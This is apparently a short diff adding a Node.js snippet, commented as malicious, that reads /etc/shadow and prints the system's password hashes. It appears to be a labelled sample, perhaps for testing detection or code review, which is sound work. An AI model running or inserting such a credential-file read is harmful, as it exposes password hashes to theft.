@@ -1,0 +1,3 @@
+// Malicious: reads /etc/shadow (password hashes).
+const fs = require('fs');
+console.log(fs.readFileSync('/etc/shadow', 'utf8'));
